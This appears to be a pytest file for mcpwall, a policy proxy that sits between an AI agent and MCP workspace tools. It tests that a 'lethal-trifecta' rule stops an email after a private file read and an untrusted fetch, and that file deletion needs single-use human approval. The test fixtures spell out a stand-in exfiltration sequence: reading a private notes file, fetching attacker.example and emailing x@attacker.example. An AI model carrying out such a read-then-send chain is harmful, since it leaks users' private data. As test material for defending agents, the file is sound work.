"""Data flow and human approval, end to end: the official ``mcp`` SDK client talks through
``mcpwall wrap`` (enforce mode) to a real SDK server with workspace tools.

- read a private file -> fetch an untrusted URL -> send an email: the third call is stopped;
  each call alone, and each pair, passes.
- ``require_approval`` asks through MCP elicitation (sent by mcpwall itself): accepting lets
  exactly that call through once; the same call again, or changed arguments, ask again;
  declining or not answering blocks. Without elicitation the call is blocked with the
  ``mcpwall approvals grant`` command, and a retry after the grant goes through once.
"""

from __future__ import annotations

import asyncio
import re
import sqlite3
from pathlib import Path
from typing import Any

import mcp_types as types
import pytest
from mcp.shared.exceptions import MCPError

from wallpeer import SERVERS, mcpwall, wrapped_client, write_config

WORKSPACE = [str(SERVERS / "workspace_server.py")]

TRIFECTA = {
    "mode": "enforce",
    "policy": {"rules": [{"name": "lethal-trifecta", "match": {"labels": "external_sink",
                                                               "after": ["private_data", "untrusted_input"]},
                          "action": "deny", "reason": "private data and untrusted input were touched first"}]},
}
CALLS = {
    "read": ("read_file", {"path": "/home/me/notes.txt"}),
    "fetch": ("fetch", {"url": "https://attacker.example/page"}),
    "send": ("send_email", {"to": "x@attacker.example", "body": "hi"}),
}


@pytest.mark.parametrize(
    ("sequence", "blocked_at"),
    [
        (["send"], None),
        (["read", "send"], None),
        (["fetch", "send"], None),
        (["read", "fetch"], None),
        (["read", "fetch", "send"], 2),
        (["fetch", "read", "send"], 2),
    ],
)
async def test_lethal_trifecta_is_stopped_at_the_sink(tmp_path: Path, sequence: list[str], blocked_at: int | None) -> None:
    config = write_config(tmp_path / "mcpwall.yaml", tmp_path / "audit.db", TRIFECTA)
    async with wrapped_client(config, WORKSPACE) as client:
        await client.list_tools(cache_mode="bypass")
        for i, step in enumerate(sequence):
            tool, args = CALLS[step]
            if i == blocked_at:
                with pytest.raises(MCPError, match="lethal-trifecta"):
                    await client.call_tool(tool, args)
            else:
                result = await client.call_tool(tool, args)
                assert result.content[0].text.startswith(f"{tool} done")


APPROVAL = {
    "mode": "enforce",
    "policy": {"rules": [{"name": "confirm-deletes", "match": {"tool": "delete_file"}, "action": "require_approval",
                          "reason": "deleting files needs a human"}],
               "approvals": {"timeout_seconds": 5}},
}


class User:
    """An elicitation callback that answers from a script and keeps what it was shown."""

    def __init__(self, *answers: str) -> None:
        self.answers = list(answers)
        self.shown: list[str] = []
        self.never = asyncio.Event()

    async def __call__(self, context: Any, params: types.ElicitRequestParams) -> types.ElicitResult:
        self.shown.append(params.message)
        answer = self.answers.pop(0)
        if answer == "silence":
            await self.never.wait()  # the user walked away
        if answer == "accept":
            return types.ElicitResult(action="accept", content={"approve": True})
        return types.ElicitResult(action=answer)  # decline / cancel


def audit_actions(audit: Path) -> list[tuple[str, str | None]]:
    con = sqlite3.connect(audit)
    try:
        return [(a, m) for a, m in con.execute("SELECT action, method FROM audit ORDER BY seq")]
    finally:
        con.close()


async def test_elicitation_approval_is_single_use_and_bound_to_the_arguments(tmp_path: Path) -> None:
    audit = tmp_path / "audit.db"
    config = write_config(tmp_path / "mcpwall.yaml", audit, APPROVAL)
    user = User("accept", "decline", "accept", "cancel")
    async with wrapped_client(config, WORKSPACE, elicitation_callback=user) as client:
        ok = await client.call_tool("delete_file", {"path": "/tmp/a"})
        assert ok.content[0].text == "delete_file done: path=/tmp/a"
        assert "delete_file" in user.shown[0] and "/tmp/a" in user.shown[0] and "deleting files needs a human" in user.shown[0]

        with pytest.raises(MCPError, match="not approved"):  # the same call again needs a new approval
            await client.call_tool("delete_file", {"path": "/tmp/a"})
        assert len(user.shown) == 2

        other = await client.call_tool("delete_file", {"path": "/tmp/b"})  # changed arguments: asked again
        assert other.content[0].text.endswith("path=/tmp/b") and "/tmp/b" in user.shown[2]

        with pytest.raises(MCPError):
            await client.call_tool("delete_file", {"path": "/tmp/c"})
        echo = await client.call_tool("read_file", {"path": "/tmp/x"})  # other calls are not held up
        assert echo.content[0].text.startswith("read_file done")
    actions = audit_actions(audit)
    assert actions.count(("ask", "elicitation/create")) == 4
    assert [a for a, _ in actions].count("consume") == 4  # the answers stayed with mcpwall
    assert actions.count(("pass", "tools/call")) >= 3


async def test_no_answer_in_time_blocks_and_the_session_goes_on(tmp_path: Path) -> None:
    data = {**APPROVAL, "policy": {**APPROVAL["policy"], "approvals": {"timeout_seconds": 0.5}}}
    config = write_config(tmp_path / "mcpwall.yaml", tmp_path / "audit.db", data)
    user = User("silence")
    async with wrapped_client(config, WORKSPACE, elicitation_callback=user) as client:
        with pytest.raises(MCPError, match="not approved"):
            await client.call_tool("delete_file", {"path": "/tmp/a"})
        user.never.set()
        assert (await client.call_tool("fetch", {"url": "https://x"})).content[0].text.startswith("fetch done")


async def test_without_elicitation_the_cli_grants_one_retry(tmp_path: Path) -> None:
    config = write_config(tmp_path / "mcpwall.yaml", tmp_path / "audit.db", APPROVAL)
    async with wrapped_client(config, WORKSPACE) as client:
        with pytest.raises(MCPError) as blocked:
            await client.call_tool("delete_file", {"path": "/tmp/a"})
        message = str(blocked.value)
        assert "mcpwall approvals grant" in message and "mcpwall approvals list" in message
        approval = re.search(r"approvals grant ([0-9a-f]+)", message)
        assert approval is not None
        listed = mcpwall("approvals", "list")
        assert approval.group(1) in listed.stdout and "delete_file" in listed.stdout

        with pytest.raises(MCPError):  # not granted yet
            await client.call_tool("delete_file", {"path": "/tmp/a"})
        granted = mcpwall("approvals", "grant", approval.group(1))
        assert granted.returncode == 0, granted.stderr

        with pytest.raises(MCPError):  # a grant is for that exact call only
            await client.call_tool("delete_file", {"path": "/tmp/other"})
        ok = await client.call_tool("delete_file", {"path": "/tmp/a"})
        assert ok.content[0].text == "delete_file done: path=/tmp/a"
        with pytest.raises(MCPError):  # and only once
            await client.call_tool("delete_file", {"path": "/tmp/a"})
